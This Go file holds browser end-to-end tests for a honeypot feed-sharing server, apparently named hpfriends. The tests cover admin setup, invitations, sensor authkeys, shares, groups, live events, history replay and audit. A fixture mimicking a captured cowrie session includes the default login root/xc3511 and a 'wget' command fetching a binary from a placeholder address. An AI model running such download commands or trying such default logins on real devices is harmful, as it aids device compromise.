package browser

import (
	"bytes"
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"hpfriends/internal/load"
	"hpfriends/wire"
)

// The story of a server, as its people see it: from the setup link to who could read a channel before it was shared.
func TestStory(t *testing.T) {
	for _, way := range []struct {
		name   string
		hand   Hand
		script bool
	}{{"mouse", Mouse, true}, {"keys", Keys, true}, {"without script", Mouse, false}} {
		t.Run(way.name, func(t *testing.T) {
			s := &story{T: t, b: Start(t), w: Empty(t), hand: way.hand, script: way.script}
			s.people()
			s.sensor()
			s.reader()
			s.share()
			s.passOn()
			s.group()
			s.live()
			s.why()
			s.refusals()
			s.search()
			s.history()
			s.graph()
			s.worldMap()
			s.past()
		})
	}
}

// In a demo, and only there, one click makes a stranger one of its people.
func TestDemoIsEnteredWithOneClick(t *testing.T) {
	b, w := Start(t), Demo(t)
	for name, hand := range map[string]Hand{"mouse": Mouse, "keys": Keys} {
		t.Run(name, func(t *testing.T) {
			p := b.Tab(t, w.URL)
			p.Hand = hand
			p.Open("/incoming")
			p.See("This is a demo. Who are you?")
			p.Click("button", "cleo")
			p.In("row", "waiting", "ada", "dionaea.*", "honeynet")
			p.Click("DisclosureTriangle", "cleo")
			p.Click("button", "Log out")
			p.Click("button", "grace")
			p.Click("link", "Admin")
			p.In("row", "Cleo Marchetti", "member")
		})
	}
}

// story is one telling: who takes part, and what they have learned.
type story struct {
	*testing.T
	b              *Browser
	w              *World
	hand           Hand
	script         bool
	ada, bob, cleo *Tab
	key            load.Key // of ada's sensor
	began          int      // the index of the first share
}

// tab is that of one more person.
func (s *story) tab() *Tab {
	p := s.b.Tab(s.T, s.w.URL)
	p.Hand = s.hand
	if !s.script {
		p.NoScript()
	}
	return p
}

const attack = `{"peerIP":"198.51.100.23","peerPort":50123,"hostIP":"192.0.2.10","session":"2fd1ab0c",` +
	`"loggedin":["root","xc3511"],"commands":["uname -a","wget http://203.0.113.66/x86"]}`

const located = `{"type":"cowrie.sessions","latitude":21.03,"longitude":105.85,"city":"Hanoi","countrycode":"VN",` +
	`"latitude2":50.11,"longitude2":8.68,"city2":"Frankfurt","countrycode2":"DE"}`

// The first admin comes by the setup link, which then is closed; the others by an invitation.
func (s *story) people() {
	s.ada = s.tab()
	link := s.w.SetupLink()
	s.ada.Open(link)
	s.ada.See("This server has no admin yet. You become its first.")
	s.ada.Fill("Handle", "ada")
	s.ada.Fill("Display name", "Ada L.")
	s.ada.Fill("Password", Password)
	s.ada.Click("button", "Become admin")
	s.ada.See("You are the admin of this server.")
	stranger := s.tab()
	stranger.Expect(link, 404)
	stranger.See("There is nothing to set up here")
	stranger.Open("/login")
	stranger.SeeNo("This is a demo")

	s.ada.Click("link", "Admin")
	s.ada.See("None is open.")
	s.ada.Fill("Note", "the meeting in Krakow")
	s.ada.Fill("Uses", "2")
	s.ada.Click("button", "Invite")
	s.ada.See("Send this link. It is shown once.")
	link = strings.TrimPrefix(s.ada.Read("#invitation"), s.w.URL)
	s.bob, s.cleo = s.join(link, "bob"), s.join(link, "cleo")
	stranger.Expect(link, 404)
	s.ada.Click("link", "Admin")
	s.ada.See("3 users")
	s.ada.In("row", "cleo", "member", "enabled")
}

func (s *story) join(link, handle string) *Tab {
	p := s.tab()
	p.Open(link)
	p.See("ada invites you to hpfriends")
	p.See("the meeting in Krakow")
	p.Fill("Handle", handle)
	p.Fill("Password", Password)
	p.Click("button", "Join")
	p.See("Welcome, " + handle + ".")
	return p
}

// Ada connects a sensor, and sees its first event arrive.
func (s *story) sensor() {
	p := s.ada
	p.Click("link", "Home")
	p.See("Three steps until your first event")
	p.Main().Click("link", "Connect a sensor")
	p.Click("radio", "cowrie publishes on")
	p.Fill("Comment", "pot3 in Frankfurt")
	p.Click("button", "Connect")
	p.See("Paste this into cowrie")
	s.key = load.Key{Ident: p.Read("#issued-ident"), Secret: p.Read("#issued-secret")}
	if configuration := p.Read("#issued-config"); !strings.Contains(configuration, s.key.Secret) {
		s.Errorf("the configuration lacks the secret: %s", configuration)
	}
	p.See("Nothing has come from it yet.")
	s.publish(s.key, "cowrie.sessions", attack)
	if !s.script {
		p.Click("link", "Look again")
	}
	p.See("Its first event has arrived")
}

// Bob gets an authkey that may read what others share with him.
func (s *story) reader() {
	p := s.bob
	p.Click("link", "Authkeys")
	p.See("You have no authkey yet.")
	p.Main().Click("link", "Add authkey")
	p.Fill("Subscribe to", "*")
	p.Fill("Comment", "the archive")
	p.Fill("Identifier", "bob-archive")
	p.Click("button", "Add authkey")
	p.See("Copy it now.")
	p.Click("link", "Authkeys")
	p.In("row", "bob-archive", "the archive")
}

// Ada shares her channel with bob, who enables it; before she does, she sees whom it reaches.
func (s *story) share() {
	p := s.ada
	p.Click("link", "Shares")
	p.See("You share nothing yet.")
	s.add(p, "cowrie.*", "bob")
	p.See("1 person, once they enable it")
	p.See("198.51.100.23") // a sample of what bob will get
	p.Click("button", "Share it!")
	p.See("You share cowrie.* with bob.")
	p.In("row", "cowrie.*", "bob", "waiting")

	s.bob.Click("link", "Home")
	s.bob.See("Waiting for you")
	s.bob.Click("link", "Shared with you")
	s.bob.In("row", "waiting", "ada", "cowrie.*").Click("link", "Why?")
	s.bob.Fill("on channel", "cowrie.sessions")
	s.bob.Click("button", "Explain")
	s.bob.See("bob has not enabled it")
	s.bob.Click("button", "Enable")
	s.bob.See("You have enabled 1 share.")
	s.bob.In("row", "flows", "ada", "cowrie.*")
	p.Click("link", "Shares")
	p.In("row", "cowrie.*", "bob", "flows")
}

// add fills in a share, and has its reach shown.
func (s *story) add(p *Tab, channel, to string) {
	s.Helper()
	p.Main().Click("link", "Add share")
	p.Fill("Channel", channel)
	p.Fill("User or group", to)
	if !s.script {
		p.Click("button", "Show reach")
	}
}

func (s *story) enable(p *Tab, from, channel string) {
	s.Helper()
	p.Click("link", "Shared with you")
	p.In("row", "waiting", from, channel).Click("button", "Enable")
	p.See("You have enabled 1 share.")
	p.In("row", "flows", from, channel)
}

// Bob passes on what he gets: the page says whose events that are.
func (s *story) passOn() {
	p := s.bob
	p.In("row", "ada", "cowrie.*").Click("link", "Share")
	p.Fill("User or group", "cleo")
	p.Click("radio", "Also share events I receive")
	if !s.script {
		p.Click("button", "Show reach")
	}
	p.See("It passes on events of ada.")
	p.Click("button", "Share it!")
	p.See("You share cowrie.* with cleo.")
	s.enable(s.cleo, "bob", "cowrie.*")
}

// Bob makes a group, with which ada shares what belongs on a map.
func (s *story) group() {
	p := s.bob
	p.Click("link", "Groups")
	p.Fill("New group", "honeynet")
	p.Click("button", "New group")
	p.See("honeynet")
	p.Click("link", "Groups")
	p.In("row", "honeynet").Click("link", "Show")
	p.Fill("Add member", "cleo")
	p.Click("button", "Add member")
	p.In("row", "cleo", "member")

	p = s.ada
	p.Click("link", "Authkeys")
	p.Main().Click("link", "Add authkey")
	p.Fill("Publish on", "geoloc.events")
	p.Fill("Identifier", "ada-places")
	p.Click("button", "Add authkey")
	p.See("Copy it now.")
	places := load.Key{Ident: "ada-places", Secret: p.Read("#issued-secret")}
	p.Click("link", "Shares")
	s.add(p, "geoloc.events", "group:honeynet")
	p.See("2 people of ⬡ honeynet, once they enable it")
	p.Click("button", "Share it!")
	p.See("You share geoloc.events with group:honeynet.")
	s.enable(s.cleo, "ada", "geoloc.events")
	s.publish(places, "geoloc.events", located)
}

// What is published arrives, and says by which way.
func (s *story) live() {
	p := s.cleo
	p.Click("link", "Live")
	s.publish(s.key, "cowrie.sessions", strings.Replace(attack, "2fd1ab0c", "0ddba115", 1))
	if !s.script {
		p.Click("link", "Show what came meanwhile")
	}
	p.See("0ddba115")
	if s.script {
		p.See("1 arrived")
	}
	p.In("row", "0ddba115", "cowrie.sessions", "ada").Click("link", "")
	p.See("xc3511")
	p.See("A share between others passes it on.") // whose, cleo may not know
	p.See("bob shares with you their own events and those that they receive.")
	p.Click("link", "Hex")
	p.See("00000000 7b 22 70 65 65 72 49 50")
}

// Why something arrives, and why not.
func (s *story) why() {
	p := s.cleo
	p.Click("link", "All conditions")
	p.See("Here only. What ada publishes on cowrie.sessions reaches cleo on these pages, and no client")
	p.Click("link", "Add authkey")
	p.Click("button", "Add authkey")
	p.Click("link", "Shared with you")
	p.In("row", "bob", "cowrie.*").Click("link", "Why?")
	p.Fill("From", "ada")
	p.Fill("on channel", "cowrie.sessions")
	p.Click("button", "Explain")
	p.See("Yes, as far as the shares go. What ada publishes on cowrie.sessions reaches cleo;")
	p.Fill("on channel", "dionaea.capture")
	p.Click("button", "Explain")
	p.See("does not reach cleo. The first cross says why.")
	p.See("Ask ada to share it.")
}

// What a sensor does wrong stands in the Logs of who owns its key, with the reason and the way to mend it.
func (s *story) refusals() {
	s.refused(load.Key{Ident: s.key.Ident, Secret: "mistyped"}, "cowrie.sessions")
	s.refused(s.key, "dionaea.capture")
	p := s.ada
	p.Click("link", "Logs")
	row := p.In("row", s.key.Ident, "Pre-auth: Authkey secret hash incorrect.", "127.0.0.1")
	row.Click("DisclosureTriangle", "Why?")
	row.Click("link", "New secret")
	p.See("Reveal secret")
	p.Click("link", "Logs")
	row = p.In("row", "Authkey not allowed to publish here.", "dionaea.capture")
	row.Click("DisclosureTriangle", "Why?")
	row.Click("link", "Edit authkey")
	p.Fill("Publish on", "cowrie.sessions, dionaea.capture")
	p.Click("button", "Save")
	p.Click("link", "Authkeys")
	p.In("row", s.key.Ident, "dionaea.capture", "pot3 in Frankfurt")
	s.publish(s.key, "dionaea.capture", `{"saddr":"198.51.100.77"}`)
	s.bob.Click("link", "Logs")
	s.bob.See("Nothing was refused.") // of others' keys he learns nothing
}

func (s *story) search() {
	p := s.ada
	p.Click("link", "Search")
	p.Main().Fill("Words", "frankfurt")
	p.Main().Click("button", "Search")
	p.See("pot3 in Frankfurt")
	p.Fill("Search or jump to", "not allowed")
	p.Press("\r")
	p.See("Authkey not allowed to publish here.")
	p.Fill("Search or jump to", "nothing has all of this")
	p.Press("\r")
	p.See("Nothing that you may see is like this.")
}

// The past is there too, from when the share allows it.
func (s *story) history() {
	p := s.cleo
	p.Click("link", "History")
	p.See("2 messages") // not the one that was published before bob passed it on
	p.Fill("Channels", "cowrie.*")
	p.Click("button", "Show")
	p.See("1 message")
	p.In("row", "0ddba115")
	download, err := evaluate[string](p, `document.querySelector("a[download]").getAttribute("href")`)
	p.must(download, err)
	if all := p.HTML(download); !bytes.Contains(all, []byte("0ddba115")) || !bytes.Contains(all, []byte(`"messages":1,`)) {
		s.Errorf("the download is %s", all)
	}
	p = s.ada
	p.Click("link", "History")
	p.See("4 messages")
	p.In("row", "2fd1ab0c")
	s.replay(p)
}

// What a text selects is counted, and then published again on another channel.
func (s *story) replay(p *Tab) {
	choose := func() {
		p.Fill("Channels", "cowrie.*")
		p.Fill("Containing", "0ddba115")
		p.Click("button", "Show")
		p.In("row", "0ddba115", "cowrie.sessions")
		p.Fill("To channel", "dionaea.capture")
		p.Choose("with authkey", s.key.Ident)
	}
	choose()
	p.Click("button", "Count")
	s.over(p, "1 would be")
	choose()
	p.Click("button", "Replay")
	s.over(p, "1 of 1")
	p.Fill("Containing", "")
	p.Fill("Channels", "dionaea.capture")
	p.Click("button", "Show")
	p.See("2 messages")
	p.In("row", "0ddba115", "dionaea.capture", "ada")
}

// over waits until the page tells how a replay has ended. Without script it does not look again by itself.
func (s *story) over(p *Tab, how string) {
	if !s.script {
		p.must(nil, p.until(func() error {
			p.Open("/history")
			if !strings.Contains(p.Text(), how) {
				return fmt.Errorf("no replay has ended with %q", how)
			}
			return nil
		}))
	}
	p.See(how)
}

func (s *story) graph() {
	p := s.ada
	p.Click("link", "Graph")
	p.See("3 shares")
	p.In("row", "bob", "cowrie.*", "cleo", "flows")
	before := 0
	if s.script {
		before = p.Coloured("#graph .edge", "--honey")
	}
	p.Fill("How does", "ada")
	p.Fill("reach", "cleo")
	p.Fill("on", "cowrie.sessions")
	p.Click("button", "Show the way")
	p.See("Yes, by 2 shares, drawn bold.")
	if s.script {
		p.must(nil, p.until(func() error { // it is drawn once the page has paused
			if lit := p.Coloured("#graph .edge", "--honey"); lit < before+2 {
				return fmt.Errorf("the way does not light up: %d lines are of honey, and were %d before", lit, before)
			}
			return nil
		}))
	}
	p.Fill("reach", "bob")
	p.Fill("on", "dionaea.capture")
	p.Click("button", "Show the way")
	p.See("No.")
}

func (s *story) worldMap() {
	p := s.cleo
	p.Click("link", "Map")
	p.See("1 attack")
	p.In("row", "Hanoi", "Frankfurt", "cowrie.sessions")
	if !s.script {
		return
	}
	for what, want := range map[string]int{"#map circle.attacker": 1, "#map rect.sensor": 1, "#map .land.shade-4": 1} {
		p.must(nil, p.until(func() error { // it is drawn in slices
			n, err := evaluate[int](p, fmt.Sprintf("document.querySelectorAll(%q).length", what))
			if err == nil && n != want {
				err = fmt.Errorf("%d of %s are drawn, want %d", n, what, want)
			}
			return err
		}))
	}
}

// The audit tells who shared what and when; before that, nobody but ada could read her channel.
func (s *story) past() {
	p := s.ada
	p.Click("link", "Audit")
	added := p.In("row", "ada", "shares their own events of cowrie.* with bob.")
	s.began = index(s.T, added.Text())
	added.Click("link", "Show")
	p.See("ada shares their own events of cowrie.* with bob.")
	p.Click("link", "Shares as of then")
	p.See("as of")
	p.In("row", "cowrie.*", "bob", "waiting")
	p.Click("DisclosureTriangle", "As of")
	p.Fill("Show this page as it was at", "#"+strconv.Itoa(s.began-1))
	p.Click("button", "Show")
	p.See("Nothing can be changed here.")
	p.See("You share nothing yet.")
	p.Click("link", "back to now")
	p.In("row", "cowrie.*", "bob", "flows")

	p.Click("link", "Audit")
	p.Click("link", "Who could read a channel?")
	for at, sees := range map[int]string{s.began - 1: "0 ways to read", 0: "2 ways to read"} {
		p.Fill("Channel", "cowrie.sessions")
		p.Fill("at", "")
		if at != 0 {
			p.Fill("at", "#"+strconv.Itoa(at))
		}
		p.Click("button", "Show")
		p.See(sees)
	}
	p.Click("link", "Audit")
	p.Click("button", "Verify the whole audit")
	p.See("are as they were written.")
}

// index reads the index of the first position in a text.
func index(t *testing.T, text string) int {
	t.Helper()
	m := regexp.MustCompile(`#(\d+)`).FindStringSubmatch(text)
	if m == nil {
		t.Fatalf("there is no position in %q", text)
	}
	n, _ := strconv.Atoi(m[1])
	return n
}

// publish is what a sensor does. It returns once the log has the message.
func (s *story) publish(k load.Key, channel, payload string) {
	s.Helper()
	c, err := load.Login(s.Context(), s.w.Hpfeeds, k)
	if err != nil {
		s.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	out := wire.AppendSubscribe(nil, k.Ident, "$acks")
	out = wire.AppendPublish(out, k.Ident, channel, []byte(payload))
	if _, err := c.Write(out); err != nil {
		s.Fatal(err)
	}
	var said []byte
	for !bytes.HasSuffix(said, []byte("$acks1")) {
		some := make([]byte, 1024)
		n, err := c.Read(some)
		if said = append(said, some[:n]...); err != nil {
			s.Fatalf("%s on %s: %q, %v", k.Ident, channel, said, err)
		}
	}
}

// refused publishes what the broker does not take, and returns once it has said so.
func (s *story) refused(k load.Key, channel string) {
	s.Helper()
	c, err := load.Login(s.Context(), s.w.Hpfeeds, k)
	if err != nil {
		s.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	_, _ = c.Write(wire.AppendPublish(nil, k.Ident, channel, []byte(attack)))
	answer := make([]byte, 1024)
	if n, err := c.Read(answer); n < wire.HeaderLen || answer[4] != 0 {
		s.Fatalf("%s on %s is not refused: %q, %v", k.Ident, channel, answer[:n], err)
	}
}
